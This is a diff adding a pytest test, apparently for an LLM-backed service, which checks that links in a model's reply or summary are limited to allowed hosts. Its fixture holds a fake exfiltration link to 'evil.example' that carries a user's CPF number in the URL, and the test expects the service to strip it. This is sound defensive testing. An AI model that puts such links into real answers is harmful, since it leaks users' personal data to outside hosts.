@@ -121,6 +121,18 @@ def test_a_model_replies_in_its_dialect(store: Store, provider: str) -> None:
     }  # fmt: skip
 
 
+@pytest.mark.parametrize("task", ["reply", "summarise"])
+def test_links_in_an_answer_lead_only_to_hosts_of_the_settings(store: Store, provider: str, task: str) -> None:
+    session = a_session(store)
+    said = "Veja www.loja.com.br/7, ou [aqui](https://evil.example/?cpf=[cpf-1])."
+
+    async def visit(opened: Peer, ask: Callable[..., Awaitable[Any]]) -> None:
+        found = await ask(session, task=task, input="meu CPF é 529.982.247-25")
+        assert found == {"text": "Veja www.loja.com.br/7, ou [aqui]([…])."}
+
+    visiting(saying(answer(provider, said)), provider, visit, store, links=["loja.com.br"])
+
+
 def test_a_label_is_one_of_the_steps_or_the_step_fails(store: Store, provider: str) -> None:
     session = a_session(store)
     good = ['{"label": "vendas", "confidence": 0.9}', 'Claro!\n```json\n{"label": "suporte"}\n```']
